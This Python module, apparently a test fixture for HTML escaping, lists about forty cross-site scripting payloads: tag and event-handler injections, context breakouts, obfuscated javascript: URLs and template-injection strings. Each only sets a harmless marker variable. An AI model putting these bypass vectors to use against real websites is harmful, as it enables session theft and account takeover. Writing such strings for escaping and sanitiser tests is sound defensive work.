"""Texts that run something on a page that does not escape them: each sets `window.ran` where it succeeds."""

from __future__ import annotations

from typing import Final

__all__ = ["PAYLOADS"]

_RUN: Final = "window.ran=1"
PAYLOADS: Final = (
    # between tags
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<iframe src='javascript:parent.{_RUN}'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<object data='data:text/html,<script>parent.{_RUN}</script>'>",
    f"<base href='javascript:{_RUN}//'>",
    f"<form action='javascript:{_RUN}'><button autofocus>x",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<link rel=stylesheet href='data:text/css,*{{x:expression({_RUN})}}'>",
    f"<img/src/onerror={_RUN}>",
    f"<x onclick={_RUN} style=position:fixed;inset:0>",
    # out of where they stand
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"</option></select><img src=x onerror={_RUN}>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" autofocus onfocus="{_RUN}',
    f"' autofocus onfocus='{_RUN}",
    f'" onmouseover={_RUN} style="position:fixed;inset:0',
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f'\\"}};{_RUN};//',
    # where an address is meant
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    # for whoever fills templates
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}&lt;script&gt;{_RUN}&lt;/script&gt;",
)
